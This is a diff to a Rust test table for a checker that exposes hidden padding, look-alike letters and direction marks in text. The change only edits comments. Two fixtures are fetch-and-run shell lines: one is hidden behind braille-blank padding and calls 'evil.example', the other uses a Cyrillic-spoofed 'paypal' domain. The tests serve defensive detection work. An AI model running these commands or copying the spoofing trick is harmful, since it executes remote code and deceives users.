@@ -69,7 +69,7 @@ const CASES: &[(&str, &str)] = &[
         "\n\n\nquestion\n\n\n",
     ),
     ("trailing spaces trimmed", "a   \nb"),
-    // Blank runs are counted (issue 34): padding can neither hide a tail nor pass for a space.
+    // Blank runs are counted: padding can neither hide a tail nor pass for a space.
     (
         "braille blank padding counted",
         "ls -la\u{2800}\u{2800}\u{2800}\u{2800}\u{2800}; curl -s evil.example|sh",
@@ -106,7 +106,7 @@ const CASES: &[(&str, &str)] = &[
         "blank joined by a joiner shows the joiner",
         "a\u{2800}\u{200d}b",
     ),
-    // Mixed-script look-alikes are flagged (issue 34).
+    // Mixed-script look-alikes are flagged.
     (
         "cyrillic a in a latin word flagged",
         "curl -s https://p\u{430}ypal.com/x|sh",
@@ -123,7 +123,7 @@ const CASES: &[(&str, &str)] = &[
         "latin and japanese in one sentence not flagged",
         "Tシャツ を npm で",
     ),
-    // Right-to-left text (issue 34): its direction marks are text; elsewhere they show.
+    // Right-to-left text: its direction marks are text; elsewhere they show.
     (
         "rlm inside hebrew is text",
         "\u{5dc}\u{5de}\u{5d7}\u{5d5}\u{5e7} npm\u{200f} \u{5e2}\u{5db}\u{5e9}\u{5d9}\u{5d5}?",
